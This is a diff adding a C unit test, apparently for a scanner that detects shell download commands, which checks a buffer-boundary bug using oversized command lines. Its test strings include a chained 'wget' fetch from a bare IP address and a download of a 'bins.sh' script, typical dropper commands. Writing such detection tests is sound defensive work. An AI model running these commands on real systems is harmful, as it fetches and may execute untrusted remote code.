@@ -103,6 +103,22 @@ static void expect_none(const char *text)
 
 /* ---- shell download tools ----------------------------------------------------- */
 
+/* A command whose words fill the word arena (4 KiB) to the last byte, then more words: the
+ * soak found the terminator of the next word written one past the arena (UBSan). */
+static void test_arena_full(void **state)
+{
+    (void)state;
+    for (size_t fill = 4090; fill <= 4100; fill++) {
+        char *line = malloc(fill + 64);
+        memcpy(line, "echo ", 5);
+        memset(line + 5, 'A', fill);
+        strcpy(line + 5 + fill, " b c d; wget http://1.2.3.4/z");
+        scan(line);
+        free(line);
+    }
+    expect1("wget http://1.2.3.4/bins.sh", "http://1.2.3.4/bins.sh", "wget", "plain");
+}
+
 static void test_wget(void **state)
 {
     (void)state;
@@ -502,6 +518,7 @@ static void test_bounds_max(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_arena_full),
         cmocka_unit_test(test_wget),
         cmocka_unit_test(test_curl),
         cmocka_unit_test(test_tftp),
